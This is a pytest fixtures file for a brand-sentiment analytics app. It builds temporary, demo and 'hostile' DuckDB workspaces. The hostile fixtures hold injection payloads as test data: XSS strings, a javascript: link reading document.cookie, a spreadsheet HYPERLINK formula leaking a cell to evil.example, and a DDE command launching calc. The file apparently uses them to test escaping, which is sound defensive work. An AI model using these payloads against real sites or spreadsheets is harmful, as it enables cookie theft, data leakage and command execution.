"""Shared fixtures: temporary workspaces, the reference data location, a small scored demo workspace."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from analytics.models.devices import CPU_THREADS_ENV, cpu_cores

ROOT = Path(__file__).resolve().parent.parent
REFERENCE_DATA = Path(os.environ.get("BRANDLENS_REFERENCE_DATA", ROOT.parent / "shared" / "data"))

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")
if os.environ.get("PYTEST_XDIST_WORKER") and CPU_THREADS_ENV not in os.environ:
    # each worker's models (and the dashboards it serves) get their share of the cores, not all of them:
    # oversubscribed threads cost the suite time (see CPU_THREADS_ENV)
    _share = cpu_cores() // int(os.environ.get("PYTEST_XDIST_WORKER_COUNT", "1"))
    os.environ[CPU_THREADS_ENV] = str(max(1, _share))


def reference_file(relative: str) -> Path:
    """Path of a reference data file, or skip the test with the reason when it is absent."""
    path = REFERENCE_DATA / relative
    if not path.exists():
        pytest.skip(f"reference data {path} is absent (it sits beside the project in ../shared/data)")
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """Path of a fresh, empty workspace file."""
    return tmp_path / "workspace.duckdb"


@pytest.fixture(scope="session")
def demo_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small demo workspace (3,000 posts) scored by the default model and VADER, built once per run.

    Under pytest-xdist the workers share one build (the first to need it builds it under a lock,
    the others wait and read the same file): scoring it is the suite's largest fixed cost. Tests
    must not write to it; copy it first (``shutil.copy``) when a test changes data.
    """
    from filelock import FileLock

    base = tmp_path_factory.getbasetemp()
    shared = base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base  # the run's folder, not older runs'
    path = shared / "demo-shared" / "demo.duckdb"
    with FileLock(str(shared / "demo-shared.lock")):
        if not path.exists():
            path.parent.mkdir(exist_ok=True)
            building = path.with_name("demo.building.duckdb")
            _build_demo(building)
            os.replace(building, path)  # whole or absent: a worker never reads half a build
    return path


def _build_demo(path: Path) -> None:
    from analytics import store
    from analytics.demo import generate_demo
    from analytics.models import load_model
    from analytics.scoring.local import score_workspace

    path.unlink(missing_ok=True)
    with store.open_workspace(path) as con:
        generate_demo(con, seed=7, n_posts=3000)
        for spec in ("default", "vader"):
            score_workspace(con, load_model(spec, device="cpu"))


def thinned_copy(source: Path, target: Path, *, labels: int | None = None, unlabelled: int | None = None) -> Path:
    """Copy the workspace ``source`` to ``target``, keeping ``labels`` of its source labels (``posts.gold_label``)
    and ``unlabelled`` of its other posts with their predictions (a seeded choice; ``None`` keeps all), so a
    test adapts or scores less. For the demo workspace, which has no corrections or topics yet."""
    import shutil

    from analytics import store

    shutil.copy(source, target)
    with store.open_workspace(target) as con:
        if labels is not None:
            con.execute("UPDATE posts SET gold_label = NULL, gold_origin = NULL WHERE gold_label IS NOT NULL AND "
                        "post_id NOT IN (SELECT post_id FROM posts WHERE gold_label IS NOT NULL "
                        "ORDER BY hash(post_id) LIMIT ?)", [labels])
        if unlabelled is not None:
            con.execute("DELETE FROM posts WHERE gold_label IS NULL AND post_id NOT IN (SELECT post_id FROM posts "
                        "WHERE gold_label IS NULL ORDER BY hash(post_id) LIMIT ?)", [unlabelled])
            con.execute("DELETE FROM predictions WHERE post_id NOT IN (SELECT post_id FROM posts)")
    return target


HOSTILE_BRANDS = ('<a href="http://localhost:9/phish">ClickBrand</a>', "**Bold** [js](javascript:alert(1))",
                  "Plain Brand")
"""Brand names that are markup: an HTML link, markdown emphasis and a javascript: link."""
HOSTILE_ASPECTS = ("<b>billing</b> [x](http://evil.example/a)", "=HYPERLINK(\"http://evil.example/h\")",
                   "delivery")
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me") awful service',
    "+cmd|' /C calc'!A0 terrible app",
    "-2+3 great deal, @handle loves it",
    "@SUM(1+1) fine I guess",
    "<img src=x onerror=alert(1)> love the new plan",
    "see [my site](javascript:alert(document.cookie)) or www.evil.example or mail me at ana@evil.example",
    "<script>alert('x')</script> the worst support",
    "**bold claim** and <a href=\"http://localhost:9/phish\">a link</a>, really good",
)


@pytest.fixture(scope="session")
def hostile_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace whose brand names, aspects and texts carry links, markdown, HTML and formulas.

    360 posts over 60 days, labelled, scored by VADER (fast), aspect topics built; ``our_brand``
    is the HTML link. Tests must not write to it; copy it first.
    """
    import pandas as pd

    from analytics import store
    from analytics.brand.topics import build_topics
    from analytics.ingest import ingest_frame
    from analytics.models import load_model
    from analytics.scoring.local import score_workspace

    rows = []
    for i in range(360):
        rows.append({
            "text": f"{HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]} #{i}",
            "brand": HOSTILE_BRANDS[i % len(HOSTILE_BRANDS)],
            "time": (pd.Timestamp("2026-09-01") + pd.Timedelta(hours=4 * i)).isoformat(),
            "label": ("negative", "neutral", "positive")[(i // 3) % 3],
            "aspect": HOSTILE_ASPECTS[(i // 2) % len(HOSTILE_ASPECTS)],
        })
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    with store.open_workspace(path) as con:
        ingest_frame(con, pd.DataFrame(rows), source="hostile")
        store.set_setting(con, "our_brand", HOSTILE_BRANDS[0])
        score_workspace(con, load_model("vader", device="cpu"))
        build_topics(con)
    return path


@pytest.fixture(scope="session", autouse=True)
def _background_jobs_end_before_the_interpreter():
    """Pages start scoring and adapting as background threads: let them end before Python exits
    (a thread inside torch at interpreter shutdown aborts the process)."""
    yield
    from analytics.core.jobs import JOBS

    for job in JOBS.jobs():
        JOBS.wait(job.id, timeout=900)


RUN_FIRST = (
    "test_first_day_browser.py", "test_browser.py", "test_browser_auth.py", "test_adapt.py", "test_concurrency.py",
    "test_unlike_demo.py", "test_pipeline.py", "test_pages_apptest.py", "test_wheel.py", "test_scoring_ray.py",
    "test_labelling.py", "test_training.py",
)
"""Test files that take longest (measured: 40-150 s each on 2 workers), run first and the short ones
last, so that ``make test``'s two workers (``--dist loadfile --no-loadscope-reorder``) end together
instead of one running the 2-minute first-day browser flow alone at the end. Only the order changes."""


def pytest_collection_modifyitems(config: pytest.Config, items: list[pytest.Item]) -> None:
    rank = {name: i for i, name in enumerate(RUN_FIRST)}
    items.sort(key=lambda item: rank.get(item.path.name, len(RUN_FIRST)))  # stable: a file keeps its order
